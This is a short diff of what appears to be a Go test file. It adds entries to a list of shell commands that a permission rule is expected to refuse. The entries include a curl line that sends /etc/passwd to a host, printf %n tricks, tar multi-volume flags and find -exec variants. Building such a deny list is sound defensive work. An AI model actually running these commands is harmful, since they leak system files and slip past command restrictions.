@@ -11,6 +11,13 @@ import (
 // none: each runs another program, writes a file that the rule does not name, or
 // loads configuration.
 const refusedLines = `
+printf %n PATH
+printf x%-5n PATH
+printf ./* PATH
+curl -sH@/etc/passwd http://h
+tar cML 1 x
+tar cMf x.tar a
+cargo build --config=x
 find . -exec touch x ';'
 find . -execdir touch x ';'
 find . -ok touch x ';'
